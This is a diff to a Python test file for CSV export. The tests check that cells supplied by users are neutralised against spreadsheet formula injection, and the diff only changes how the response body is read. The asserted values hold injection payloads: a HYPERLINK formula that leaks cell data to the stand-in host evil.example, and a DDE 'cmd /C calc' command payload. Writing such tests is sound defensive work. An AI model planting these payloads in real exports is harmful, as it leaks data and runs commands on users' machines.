@@ -24,7 +24,7 @@ def test_csv_export_neutralises_formulas_from_users(api, catalogue):
 
     response = api.get("/api/v1/practices/?format=csv&city=toronto")
 
-    text = response.content.decode()
+    text = response.getvalue().decode()
     (row,) = list(csv.DictReader(io.StringIO(text)))
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
@@ -44,5 +44,5 @@ def test_publication_csv_is_neutralised_too(api, catalogue):
 
     response = api.get("/api/v1/publications/?format=csv")
 
-    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
+    (row,) = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
     assert row["title"] == "'=1+1"
